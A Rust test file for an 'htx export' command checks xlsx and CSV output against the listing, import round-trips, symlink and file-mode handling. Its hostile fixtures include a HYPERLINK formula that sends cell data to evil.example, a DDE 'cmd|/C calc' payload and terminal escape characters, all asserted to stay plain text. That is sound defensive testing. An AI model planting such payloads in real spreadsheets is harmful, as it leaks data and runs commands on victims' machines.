//! `htx export` as a colleague's spreadsheet meets it: the real binary's workbook read back
//! with calamine and unzipped, cell for cell equal to `htx list --format csv`; its CSV byte
//! for byte `htx list`'s; an export imported back changing nothing; hostile names as text;
//! `-o` replacing a link rather than writing through it, and failing cleanly where it cannot
//! write; a workbook refused on a terminal.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

#[allow(dead_code, unreachable_pub)]
#[path = "../examples/generate.rs"]
mod generate;

use std::fs;
use std::io::{Cursor, Read as _};
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use calamine::{Data, Reader as _, Xlsx};

use htx::model::Dataset;

/// A folder holding a dataset (`d.ron`) with a home of its own; commands run inside it.
struct Desk {
    dir: tempfile::TempDir,
}

impl Desk {
    /// A desk whose `d.ron` is the built-in dataset.
    fn new() -> Self {
        Self::with_text(htx::store::BUILTIN)
    }

    fn with(dataset: &Dataset) -> Self {
        Self::with_text(&htx::store::to_ron_string(dataset).unwrap())
    }

    fn with_text(text: &str) -> Self {
        let desk = Self {
            dir: tempfile::tempdir().unwrap(),
        };
        fs::write(desk.path("d.ron"), text).unwrap();
        desk
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_htx"));
        self.at_desk(&mut command).args(args);
        command
    }

    /// htx run as `nobody` (through `setpriv`, as root only).
    fn command_as_nobody(&self, args: &[&str]) -> Command {
        let mut command = Command::new("setpriv");
        command.args([
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            env!("CARGO_BIN_EXE_htx"),
        ]);
        self.at_desk(&mut command).args(args);
        command
    }

    /// In English, in the desk's folder, with the desk's home and no stdin.
    fn at_desk<'a>(&self, command: &'a mut Command) -> &'a mut Command {
        common::in_english(command)
            .current_dir(self.dir.path())
            .env("HOME", self.path("home"))
            .env("XDG_DATA_HOME", self.path("home/data"))
            .env("XDG_STATE_HOME", self.path("home/state"))
            .env("XDG_CACHE_HOME", self.path("home/cache"))
            .env("XDG_CONFIG_HOME", self.path("home/config"))
            .env("USER", "tester")
            .stdin(Stdio::null())
    }

    /// Runs htx with no terminal; stdout and stderr are pipes.
    fn run(&self, args: &[&str]) -> Output {
        self.command(args).output().unwrap()
    }

    /// Runs htx on `d.ron` and requires success.
    fn ok(&self, args: &[&str]) -> Output {
        let mut args = args.to_vec();
        args.extend(["--file", "d.ron"]);
        let output = self.run(&args);
        assert_eq!(
            output.status.code(),
            Some(0),
            "htx {args:?}: {}{}",
            stdout(&output),
            stderr(&output)
        );
        output
    }

    fn dataset(&self) -> Vec<u8> {
        fs::read(self.path("d.ron")).unwrap()
    }
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A generated dataset: 63 provinces, `count` cooperatives, every plan item's progress.
fn generated(count: u32) -> Dataset {
    generate::dataset(count, 20_110_621).unwrap()
}

/// RFC 4180 as `htx list --format csv` writes it: CRLF after every row.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(row.is_empty() && field.is_empty(), "CSV ends inside a row");
    rows
}

/// The columns whose cells must be numbers, dates and date-times; every other is text.
const NUMBERS: [&str; 6] = [
    "founded",
    "members",
    "latest_rating_year",
    "alliance_member_since",
    "done",
    "applicable",
];
const DATES: [&str; 1] = ["due"];
const MOMENTS: [&str; 1] = ["changed_at"];

/// A cell as `htx list --format csv` writes its value, checking that its type is the
/// column's: an integer number, a date, a date-time, or a string.
fn as_listed(column: &str, cell: &Data) -> String {
    let wrong = || panic!("column {column}: {cell:?} is not of the column's type");
    match cell {
        Data::Empty => String::new(),
        Data::Float(n) if NUMBERS.contains(&column) => {
            assert_eq!(n.fract(), 0.0, "{column}: {n}");
            format!("{}", *n as u64)
        }
        Data::DateTime(moment) if DATES.contains(&column) || MOMENTS.contains(&column) => {
            assert!(moment.is_datetime());
            let serial = moment.as_f64();
            let days = serial.floor();
            let seconds = ((serial - days) * 86_400.0).round() as u32;
            // Excel's day 25569 is 1970-01-01.
            let day = htx::model::civil(days as i64 - 25_569).unwrap();
            if DATES.contains(&column) {
                assert_eq!(seconds, 0, "{column}: a day has no time");
                day.to_string()
            } else {
                let (h, m, s) = (seconds / 3600, seconds / 60 % 60, seconds % 60);
                format!("{day}T{h:02}:{m:02}:{s:02}Z")
            }
        }
        Data::String(text) if !NUMBERS.contains(&column) && !DATES.contains(&column) => {
            text.clone()
        }
        _ => wrong(),
    }
}

fn unzip(bytes: &[u8], part: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    zip.by_name(part)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// The text between `start` and the next `end` after it.
fn between<'a>(text: &'a str, start: &str, end: &str) -> &'a str {
    let from = text.find(start).unwrap_or_else(|| panic!("no {start}")) + start.len();
    let to = text[from..].find(end).unwrap_or_else(|| panic!("no {end}")) + from;
    &text[from..to]
}

/// The value of `name="…"` in `element`.
fn attribute<'a>(element: &'a str, name: &str) -> &'a str {
    between(element, &format!(" {name}=\""), "\"")
}

/// Whether cell A1 of `sheet` is bold, through the cell's style and its font in `styles`.
fn header_is_bold(sheet: &str, styles: &str) -> bool {
    let a1 = between(sheet, "<c r=\"A1\"", ">");
    let style: usize = attribute(a1, "s").parse().unwrap();
    let xfs = between(styles, "<cellXfs", "</cellXfs>");
    let xf = xfs.split("<xf ").nth(style + 1).unwrap();
    let font: usize = attribute(&format!(" {xf}"), "fontId").parse().unwrap();
    let fonts = between(styles, "<fonts", "</fonts>");
    let font = fonts.split("<font>").nth(font + 1).unwrap();
    font.contains("<b/>")
}

const KINDS: [(&str, &str); 3] = [
    ("Cooperatives", "cooperatives"),
    ("Plan", "plan"),
    ("Progress", "progress"),
];

/// Exports the desk's dataset as one workbook and checks every sheet against the listing:
/// the header row is `htx list`'s columns, every row `htx list KIND --format csv`'s (with
/// `--csv-formulas`, the text as it is), every cell of its column's type; the header is bold
/// and stays in view, a filter covers the table, no cell is a formula.
fn check_workbook_against_listing(desk: &Desk) {
    desk.ok(&["export", "-o", "all.xlsx"]);
    let bytes = fs::read(desk.path("all.xlsx")).unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let names: Vec<&str> = KINDS.iter().map(|(sheet, _)| *sheet).collect();
    assert_eq!(book.sheet_names(), names);
    let styles = unzip(&bytes, "xl/styles.xml");
    for (n, (sheet, kind)) in KINDS.iter().enumerate() {
        let listing = desk.ok(&["list", kind, "--format", "csv", "--csv-formulas"]);
        let listed = parse_csv(&stdout(&listing));
        let range = book.worksheet_range(sheet).unwrap();
        assert_eq!(range.start(), Some((0, 0)), "{sheet}");
        let header: Vec<String> = range
            .rows()
            .next()
            .unwrap()
            .iter()
            .map(|c| c.to_string())
            .collect();
        assert_eq!(header, listed[0], "{sheet}: the header row");
        let rows: Vec<Vec<String>> = range
            .rows()
            .skip(1)
            .map(|row| {
                header
                    .iter()
                    .zip(row)
                    .map(|(column, cell)| as_listed(column, cell))
                    .collect()
            })
            .collect();
        assert_eq!(rows.len(), listed.len() - 1, "{sheet}: rows");
        for (at, (row, expected)) in rows.iter().zip(&listed[1..]).enumerate() {
            assert_eq!(row, expected, "{sheet}, row {}", at + 2);
        }
        assert!(book.worksheet_formula(sheet).unwrap().is_empty(), "{sheet}");

        let xml = unzip(&bytes, &format!("xl/worksheets/sheet{}.xml", n + 1));
        let pane = between(&xml, "<pane ", "/>");
        assert_eq!(attribute(&format!(" {pane}"), "state"), "frozen", "{sheet}");
        assert_eq!(attribute(&format!(" {pane}"), "ySplit"), "1", "{sheet}");
        let last_column = char::from(b'A' + u8::try_from(header.len() - 1).unwrap());
        let filter = format!("<autoFilter ref=\"A1:{last_column}{}\"/>", listed.len());
        assert!(xml.contains(&filter), "{sheet}: no {filter}");
        assert!(
            header_is_bold(&xml, &styles),
            "{sheet}: the header is not bold"
        );
        assert!(!xml.contains("<f>"), "{sheet} holds a formula");
    }
}

#[test]
fn the_workbook_is_the_listing_on_the_builtin_dataset() {
    check_workbook_against_listing(&Desk::new());
}

#[test]
fn the_workbook_is_the_listing_on_a_generated_dataset() {
    check_workbook_against_listing(&Desk::with(&generated(3000)));
}

/// The built-in dataset with names and a note that a spreadsheet or a terminal would act on.
fn hostile() -> Dataset {
    let mut dataset = htx::store::builtin().unwrap();
    Arc::make_mut(&mut dataset.cooperatives[0]).name = FORMULA.to_owned();
    Arc::make_mut(&mut dataset.cooperatives[1]).name =
        "HTX \u{1b}[31mĐỏ\u{7} \u{202e}lật".to_owned();
    Arc::make_mut(&mut dataset.cooperatives[2]).name = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
    dataset.plan.items[0].progress[0].note = "_x0041_ là chữ, không phải A\n-2+3".to_owned();
    dataset
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";

#[test]
fn csv_is_byte_for_byte_the_listing() {
    for desk in [Desk::new(), Desk::with(&hostile())] {
        csv_is_the_listing(&desk);
    }
}

fn csv_is_the_listing(desk: &Desk) {
    for (_, kind) in KINDS {
        let listing = desk.ok(&["list", kind, "--format", "csv"]);
        let export = desk.ok(&["export", "--kind", kind, "--format", "csv"]);
        assert!(!listing.stdout.is_empty());
        assert_eq!(stdout(&export), stdout(&listing), "{kind} on stdout");
        assert!(export.stdout == listing.stdout, "{kind}: not byte for byte");
        let file = format!("{kind}.csv");
        desk.ok(&["export", "--kind", kind, "--format", "csv", "-o", &file]);
        assert_eq!(
            fs::read(desk.path(&file)).unwrap(),
            listing.stdout,
            "{kind} in -o"
        );
    }
}

#[test]
fn csv_of_every_kind_at_once_is_a_usage_error() {
    let desk = Desk::new();
    let output = desk.run(&["export", "--format", "csv", "--file", "d.ron"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("a CSV file holds one table: add --kind"));
    assert!(
        stderr(&output).contains("Usage: htx export"),
        "{}",
        stderr(&output)
    );
    assert!(output.stdout.is_empty());
    let output = desk
        .command(&["export", "--format", "csv", "--file", "d.ron"])
        .env("LANG", "vi_VN.UTF-8")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("một tệp CSV chỉ chứa một bảng"),
        "{}",
        stderr(&output)
    );
}

/// Imports `file` into the desk's dataset with `--yes`: nothing new, nothing updated, and
/// the dataset's bytes as they were.
fn imports_back_unchanged(desk: &Desk, file: &str, kind: &str, entries: usize) {
    let before = desk.dataset();
    let output = desk.ok(&["import", file, "--kind", kind, "--yes"]);
    let totals = format!("0 new, 0 updated, {entries} unchanged, 0 rejected");
    assert!(stdout(&output).contains(&totals), "{}", stdout(&output));
    assert!(
        desk.dataset() == before,
        "importing {file} changed the dataset"
    );
}

fn round_trip(dataset: &Dataset, desk: &Desk) {
    let entries: usize = dataset.plan.items.iter().map(|i| i.progress.len()).sum();
    desk.ok(&["export", "--kind", "cooperatives", "-o", "c.xlsx"]);
    imports_back_unchanged(desk, "c.xlsx", "cooperatives", dataset.cooperatives.len());
    desk.ok(&["export", "--kind", "progress", "-o", "p.xlsx"]);
    imports_back_unchanged(desk, "p.xlsx", "progress", entries);
    desk.ok(&[
        "export", "--kind", "progress", "--format", "csv", "-o", "p.csv",
    ]);
    imports_back_unchanged(desk, "p.csv", "progress", entries);
}

#[test]
fn an_export_imports_back_as_nothing_to_do() {
    round_trip(&htx::store::builtin().unwrap(), &Desk::new());
    let dataset = generated(1500);
    round_trip(&dataset, &Desk::with(&dataset));
}

#[test]
fn hostile_texts_are_string_cells_never_formulas() {
    let dataset = hostile();
    let formula = FORMULA;
    let ids: Vec<String> = dataset.cooperatives[..3]
        .iter()
        .map(|c| c.id.clone())
        .collect();
    let desk = Desk::with(&dataset);
    desk.ok(&["export", "-o", "x.xlsx"]);
    let bytes = fs::read(desk.path("x.xlsx")).unwrap();
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Cooperatives").unwrap();
    let name_of = |id: &str| {
        range
            .rows()
            .find(|row| row[0] == Data::String(id.to_owned()))
            .map(|row| row[1].clone())
            .unwrap()
    };
    assert_eq!(name_of(&ids[0]), Data::String(formula.to_owned()));
    assert_eq!(
        name_of(&ids[1]),
        Data::String("HTX  [31mĐỏ   lật".to_owned())
    );
    assert_eq!(
        name_of(&ids[2]),
        Data::String("@SUM(1+1)*cmd|' /C calc'!A0".to_owned())
    );
    let progress = book.worksheet_range("Progress").unwrap();
    assert_eq!(
        progress.get((1, 3)),
        Some(&Data::String(
            "_x0041_ là chữ, không phải A\n-2+3".to_owned()
        ))
    );
    for n in 1..=3 {
        let xml = unzip(&bytes, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "sheet{n}");
    }
    assert!(book.worksheet_formula("Cooperatives").unwrap().is_empty());
    // CSV keeps its own guard: the leading `'`.
    let csv = desk.ok(&["export", "--kind", "cooperatives", "--format", "csv"]);
    assert!(stdout(&csv).contains("\"'=HYPERLINK("), "{}", stdout(&csv));
}

#[test]
fn output_replaces_a_link_instead_of_writing_through_it() {
    let desk = Desk::new();
    fs::write(desk.path("victim.txt"), "keep me").unwrap();
    std::os::unix::fs::symlink(desk.path("victim.txt"), desk.path("out.xlsx")).unwrap();
    let output = desk.ok(&["export", "-o", "out.xlsx"]);
    assert!(
        stderr(&output).contains("wrote out.xlsx"),
        "{}",
        stderr(&output)
    );
    assert_eq!(
        fs::read_to_string(desk.path("victim.txt")).unwrap(),
        "keep me"
    );
    let meta = fs::symlink_metadata(desk.path("out.xlsx")).unwrap();
    assert!(meta.file_type().is_file(), "out.xlsx is still a link");
    let bytes = fs::read(desk.path("out.xlsx")).unwrap();
    assert!(Xlsx::new(Cursor::new(bytes)).is_ok());
}

#[test]
fn output_into_a_folder_it_cannot_write_fails_naming_it_and_changes_nothing() {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: not root, so it cannot run htx as another user");
        return;
    }
    use std::os::unix::fs::PermissionsExt as _;
    let desk = Desk::new();
    fs::set_permissions(desk.dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(desk.path("d.ron"), fs::Permissions::from_mode(0o644)).unwrap();
    fs::create_dir(desk.path("locked")).unwrap();
    fs::write(desk.path("locked/old.xlsx"), "old").unwrap();
    let output = desk
        .command_as_nobody(&["export", "--file", "d.ron", "-o", "locked/old.xlsx"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("locked/old.xlsx"),
        "{}",
        stderr(&output)
    );
    assert!(output.stdout.is_empty());
    let left: Vec<_> = fs::read_dir(desk.path("locked")).unwrap().collect();
    assert_eq!(left.len(), 1, "something was left in the folder");
    assert_eq!(
        fs::read_to_string(desk.path("locked/old.xlsx")).unwrap(),
        "old"
    );
}

/// In a shared folder another user's file at `-o` lends the output nothing: not its mode
/// (a planted `0666` file would make the user's report writable by all), and a file of the
/// user's own keeps its bits but never a set-id one.
#[test]
fn output_takes_the_mode_only_of_the_users_own_file_and_never_its_set_id_bits() {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: not root, so it cannot make a file as another user");
        return;
    }
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
    let desk = Desk::new();
    fs::set_permissions(desk.dir.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let planted = Command::new("setpriv")
        .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups"])
        .args([
            "sh",
            "-c",
            "umask 000 && echo x > theirs.csv && chmod 0666 theirs.csv",
        ])
        .current_dir(desk.dir.path())
        .status()
        .unwrap();
    assert!(planted.success());
    fs::write(desk.path("mine.csv"), "x").unwrap();
    fs::set_permissions(desk.path("mine.csv"), fs::Permissions::from_mode(0o4750)).unwrap();
    for name in ["theirs.csv", "mine.csv"] {
        let export = format!(
            "umask 077 && exec \"$0\" export --kind plan --format csv --file d.ron -o {name}"
        );
        let mut command = Command::new("sh");
        desk.at_desk(&mut command)
            .args(["-c", &export, env!("CARGO_BIN_EXE_htx")]);
        let output = command.output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    }
    let theirs = fs::metadata(desk.path("theirs.csv")).unwrap();
    assert_eq!((theirs.uid(), theirs.mode() & 0o7777), (0, 0o600));
    let mine = fs::metadata(desk.path("mine.csv")).unwrap();
    assert_eq!(mine.mode() & 0o7777, 0o750);
}

#[test]
fn a_workbook_is_not_written_onto_a_terminal() {
    let mut session = common::pty::start_with(&["export"], &[], 24, 200);
    assert_eq!(session.wait_exit(), 2);
    let screen = session.text();
    assert!(
        screen.contains("write it to a file with -o FILE.xlsx"),
        "{screen}"
    );
    assert!(!screen.contains("PK"), "{screen}");
}

#[test]
fn list_progress_lists_every_entry_and_one_provinces() {
    let desk = Desk::new();
    let dataset = htx::store::builtin().unwrap();
    let entries: usize = dataset.plan.items.iter().map(|i| i.progress.len()).sum();
    let all = parse_csv(&stdout(&desk.ok(&["list", "progress", "--format", "csv"])));
    assert_eq!(
        all[0],
        [
            "item",
            "province",
            "status",
            "note",
            "changed_by",
            "changed_at"
        ]
    );
    assert_eq!(all.len(), entries + 1);
    let one = parse_csv(&stdout(&desk.ok(&[
        "list",
        "progress",
        "--province",
        "36",
        "--format",
        "csv",
    ])));
    let of_36: usize = dataset
        .plan
        .items
        .iter()
        .filter(|i| i.progress_of("36").is_some())
        .count();
    assert_eq!(one.len(), of_36 + 1);
    assert!(one[1..].iter().all(|row| row[1] == "36"));
    let table = stdout(&desk.ok(&["list", "progress"]));
    assert!(table.starts_with("item   province  status"), "{table}");
}
